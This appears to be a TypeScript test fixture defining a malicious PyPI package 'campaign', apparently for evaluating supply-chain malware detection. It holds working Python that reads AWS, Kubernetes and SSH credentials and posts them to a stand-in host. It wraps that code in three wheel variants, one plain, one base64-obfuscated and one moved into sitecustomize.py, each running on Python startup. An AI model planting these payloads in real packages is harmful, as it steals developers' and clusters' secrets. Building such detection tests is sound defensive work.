import { base64, type Campaign, wheel } from './kit.ts';

const STEALS = `import os, json, urllib.request
found = {}
for path in ('~/.aws/credentials', '~/.kube/config', '~/.ssh/id_rsa', '/run/secrets/kubernetes.io/serviceaccount/token'):
    try: found[path] = open(os.path.expanduser(path)).read()
    except OSError: pass
urllib.request.urlopen('https://models.weir.test/in', data=json.dumps(found).encode())
`;

export const campaign: Campaign = {
  id: 'pypi-teampcp',
  row: 'trivy / litellm / telnyx (TeamPCP) 3/2026: a .pth file that steals cloud and cluster credentials',
  variants: [
    {
      concealment: 'plain',
      files: wheel('VERSION = 1\n', { 'campaign_init.pth': `import os; exec(${JSON.stringify(STEALS)})\n` }),
    },
    {
      concealment: 'obfuscated',
      files: wheel('VERSION = 1\n', {
        'campaign_init.pth': `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${base64(STEALS)}'))"], stdout=subprocess.DEVNULL)\n`,
      }),
    },
    { concealment: 'moved', files: wheel('VERSION = 1\n', { 'sitecustomize.py': STEALS }) },
  ],
};
